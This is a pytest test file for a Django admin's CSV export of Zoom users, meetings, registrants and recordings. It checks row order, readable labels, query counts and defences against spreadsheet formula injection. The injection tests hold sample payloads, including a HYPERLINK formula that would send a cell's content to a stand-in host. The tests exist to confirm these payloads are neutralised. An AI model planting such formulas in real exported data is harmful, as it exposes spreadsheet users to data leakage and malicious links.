"""The CSV export of every record list (``zoomadmin.records.export``), through the admin's own
URLs: the whole filtered and searched list (``…/export.csv?<the list's query>``) or the
selected rows (the "Export CSV" action).

- it holds exactly the rows of the filtered changelist, in its order, and a selection just
  the selected rows;
- text that a spreadsheet would run as a formula is written as text (OWASP, "CSV
  Injection": prefix a cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return
  with a single quote); numbers stay numbers;
- values read as a person reads them: a relation as what names the related record, a choice as
  its label, never a local database id or a code;
- an export costs the same number of queries with 5 rows as with 60.

Rows are bulk-inserted (``tests.records.test_list_scale.Rows``); one test reads a tenant synced
from the sandbox, whose data gives the expected values.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils.http import urlencode

from meetings.models import (
    CloudRecording,
    Meeting,
    MeetingRegistrant,
    RecordingFile,
    Webinar,
    WebinarParticipant,
    WebinarRegistrant,
)
from tests.records.test_list_scale import KINDS, Rows
from tests.tenants.factories import make_tenant
from users.models import ZoomUser

GONE = datetime(2025, 6, 1, tzinfo=UTC)
PER_PAGE = 50  # ZoomRecordAdmin.list_per_page


@pytest.fixture
def rows(db) -> Rows:
    return Rows(make_tenant("export"))


@pytest.fixture
def other_rows(db) -> Rows:
    return Rows(make_tenant("other export"))


def _url(model, view: str) -> str:
    return reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_{view}")


def _csv(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response.streaming and response["Content-Type"] == "text/csv"
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _zoom_id_header(model) -> str:
    return str(model._meta.get_field("zoom_id").verbose_name)


def _by_zoom_id(exported: list[dict[str, str]], model) -> dict[str, dict[str, str]]:
    return {row[_zoom_id_header(model)]: row for row in exported}


# --- the export holds the filtered list ------------------------------------------------------

SEARCH = "Marked"
# The text column of each kind that its list searches, which the test marks with SEARCH.
MARKED_COLUMN = {
    ZoomUser: "first_name",
    Meeting: "topic",
    Webinar: "topic",
    MeetingRegistrant: "first_name",
    WebinarRegistrant: "first_name",
    CloudRecording: "topic",
    WebinarParticipant: "name",
}


def _mark(model, tenant, pks: list[int]) -> None:
    """Make the rows ``pks`` match SEARCH."""
    if model is RecordingFile:
        # A file is searched by its recording's topic: the marked ones move to a marked recording.
        recording = CloudRecording.objects.filter(tenant=tenant).order_by("pk").first()
        CloudRecording.objects.filter(pk=recording.pk).update(topic=SEARCH)
        unmarked = CloudRecording.objects.filter(tenant=tenant).exclude(pk=recording.pk).first()
        RecordingFile.objects.filter(tenant=tenant).update(recording=unmarked)
        RecordingFile.objects.filter(pk__in=pks).update(recording=recording)
    else:
        model.objects.filter(pk__in=pks).update(**{MARKED_COLUMN[model]: SEARCH})


def _listed(client: Client, model, query: dict) -> list[str]:
    """The Zoom ids of every page of the changelist, in its order."""
    shown, page = [], 1
    while True:
        listing = client.get(_url(model, "changelist"), {**query, "p": page})
        assert listing.status_code == 200
        cl = listing.context["cl"]
        shown += [str(record.zoom_id) for record in cl.result_list]
        if page >= cl.paginator.num_pages:
            return shown
        page += 1


@pytest.mark.parametrize("model", KINDS, ids=lambda model: model._meta.model_name)
def test_the_export_holds_the_rows_of_the_filtered_list_in_its_order(
    superuser_client, rows, other_rows, model
):
    rows.grow(200)
    other_rows.grow(20)
    pks = list(model.objects.filter(tenant=rows.tenant).order_by("pk").values_list("pk", flat=True))
    marked, deleted = set(pks[::2]), set(pks[::3])
    _mark(model, rows.tenant, sorted(marked))
    model.objects.filter(pk__in=deleted).update(deleted_at=GONE)
    theirs = model.objects.filter(tenant=other_rows.tenant).values_list("pk", flat=True)
    _mark(model, other_rows.tenant, list(theirs))  # found by the search, not by the filter
    expected = {
        str(zoom_id)
        for zoom_id in model.objects.filter(pk__in=marked - deleted).values_list(
            "zoom_id", flat=True
        )
    }
    assert len(expected) > PER_PAGE  # more than one page

    query = {"q": SEARCH, "in_zoom": "yes", "tenant__id__exact": rows.tenant.pk}
    listed = _listed(superuser_client, model, query)
    assert set(listed) == expected and len(listed) == len(expected)
    exported = _csv(superuser_client.get(_url(model, "export"), query))
    assert [row[_zoom_id_header(model)] for row in exported] == listed
    assert {row["tenant"] for row in exported} == {rows.tenant.name}

    chosen = sorted(model.objects.filter(pk__in=marked - deleted).values_list("pk", "zoom_id"))
    chosen = chosen[1::7][:5]  # a few, spread over the list
    selected = superuser_client.post(
        f"{_url(model, 'changelist')}?{urlencode(query)}",
        {"action": "export_csv", ACTION_CHECKBOX_NAME: [pk for pk, _ in reversed(chosen)]},
    )
    in_list_order = [zoom_id for zoom_id in listed if zoom_id in {str(z) for _, z in chosen}]
    assert len(in_list_order) == len(chosen) >= 3
    assert [row[_zoom_id_header(model)] for row in _csv(selected)] == in_list_order


# --- formulas are written as text ------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x/?"&A2,"Click")', "+1", "-2+3", "@SUM(A1)"]


def test_text_that_a_spreadsheet_would_run_is_written_as_text(superuser_client, rows):
    for n, name in enumerate(FORMULAS):
        MeetingRegistrant.objects.create(
            tenant=rows.tenant,
            synced_at=GONE,
            zoom_id=f"evil{n}",
            meeting=rows.meeting,
            email=f"evil{n}@example.com",
            first_name=name,
            last_name="Harmless-name",
        )
    ZoomUser.objects.filter(pk=rows.user.pk).update(
        first_name="@SUM(A1)", last_name="\r=1+1", dept="-2+3", pmi=-5
    )
    Meeting.objects.filter(pk=rows.meeting.pk).update(topic="\tTabbed topic")

    registrants = _by_email(_csv(superuser_client.get(_url(MeetingRegistrant, "export"))))
    for n, name in enumerate(FORMULAS):
        registrant = registrants[f"evil{n}@example.com"]
        assert registrant["first name"] == "'" + name
        assert registrant["last name"] == "Harmless-name"  # a "-" inside stays as it is
        assert registrant["meeting"] == f"'\tTabbed topic ({rows.meeting.zoom_id})"

    users = _by_email(_csv(superuser_client.get(_url(ZoomUser, "export"))))
    anchor = users["anchor@example.com"]
    assert (anchor["first name"], anchor["last name"]) == ("'@SUM(A1)", "'\r=1+1")
    assert anchor["department"] == "'-2+3"
    assert anchor["personal meeting ID"] == "-5"  # a number, not text

    meetings = _by_zoom_id(_csv(superuser_client.get(_url(Meeting, "export"))), Meeting)
    assert meetings[str(rows.meeting.zoom_id)]["topic"] == "'\tTabbed topic"


def test_a_separator_inside_a_value_cannot_start_a_cell(superuser_client, rows):
    """A spreadsheet whose locale splits on ";" still sees one cell: every cell is quoted."""
    ZoomUser.objects.filter(pk=rows.user.pk).update(first_name='X;=HYPERLINK("http://x")')
    text = superuser_client.get(_url(ZoomUser, "export"))
    body = b"".join(text.streaming_content).decode("utf-8-sig")
    assert '"X;=HYPERLINK(""http://x"")"' in body
    header, *lines = body.splitlines()
    assert all(line.startswith('"') and line.endswith('"') for line in [header, *lines])


def _by_email(exported: list[dict[str, str]]) -> dict[str, dict[str, str]]:
    return {row["email"]: row for row in exported}


# --- values as a person reads them -----------------------------------------------------------


def test_relations_and_choices_read_as_names_not_ids_or_codes(superuser_client, rows):
    rows.grow(2)
    user, meeting, webinar, recording = rows.user, rows.meeting, rows.webinar, rows.recording
    MeetingRegistrant.objects.filter(meeting=meeting).update(status="approved")
    WebinarRegistrant.objects.filter(webinar=webinar).update(status="pending")

    def export(model) -> list[dict[str, str]]:
        return _csv(superuser_client.get(_url(model, "export")))

    users = _by_email(export(ZoomUser))
    assert (users[user.email]["type"], users[user.email]["status"]) == ("Licensed", "Active")

    meetings = _by_zoom_id(export(Meeting), Meeting)
    anchor = meetings[str(meeting.zoom_id)]
    assert anchor["host"] == user.email
    assert anchor["type"] == "Scheduled"  # type 2
    assert anchor["registration"] == "Registration, approved automatically"  # approval_type 0
    assert anchor["tenant"] == rows.tenant.name

    webinars = _by_zoom_id(export(Webinar), Webinar)
    assert webinars[str(webinar.zoom_id)]["type"] == "Webinar"  # type 5
    assert webinars[str(webinar.zoom_id)]["host"] == user.email

    for model, parent, status in (
        (MeetingRegistrant, meeting, "Approved"),
        (WebinarRegistrant, webinar, "Pending"),
    ):
        exported = export(model)
        assert exported
        name = parent._meta.model_name
        assert {row[name] for row in exported} == {f"Anchor ({parent.zoom_id})"}
        assert {row["status"] for row in exported} == {status}

    recordings = _by_zoom_id(export(CloudRecording), CloudRecording)
    anchor = recordings[recording.zoom_id]
    assert anchor["meeting"] == f"Anchor ({meeting.zoom_id})"
    assert anchor["webinar"] == ""  # none
    assert anchor["host"] == user.email

    files = export(RecordingFile)
    assert files and {row["recording"] for row in files} == {f"Anchor ({recording.zoom_id})"}
    participants = export(WebinarParticipant)
    assert participants
    assert {row["webinar"] for row in participants} == {f"Anchor ({webinar.zoom_id})"}

    ZoomUser.objects.filter(pk=user.pk).update(email="")  # a host without an address
    assert _by_zoom_id(export(Meeting), Meeting)[str(meeting.zoom_id)]["host"] == user.zoom_id


@pytest.mark.parametrize("model", KINDS, ids=lambda model: model._meta.model_name)
def test_an_export_costs_the_same_queries_with_5_and_with_60_rows(
    superuser_client, rows, other_rows, model
):
    other_rows.grow(3)

    def queries() -> tuple[int, int]:
        superuser_client.get(_url(model, "export"))  # caches (content types) filled once
        with CaptureQueriesContext(connection) as captured:
            exported = _csv(superuser_client.get(_url(model, "export")))
        return len(captured), len(exported)

    rows.grow(5)
    few, few_rows = queries()
    rows.grow(55)
    many, many_rows = queries()
    assert many_rows >= few_rows + 55
    assert few == many, f"{model.__name__}: {few} queries with {few_rows} rows, {many} with more"


# --- a tenant synced from the sandbox --------------------------------------------------------


def test_a_synced_meetings_export_names_each_host_by_zooms_address(client, synced):
    tenant, admin_user, sandbox = synced
    client.force_login(admin_user)
    account = sandbox.state.default_account
    exported = _by_zoom_id(_csv(client.get(_url(Meeting, "export"))), Meeting)
    assert exported
    for zoom_id, row in exported.items():
        meeting = account.meetings[int(zoom_id)]
        assert row["host"] == account.users[meeting["host_id"]]["email"]
        assert row["topic"] == meeting["topic"]
        assert row["tenant"] == tenant.name
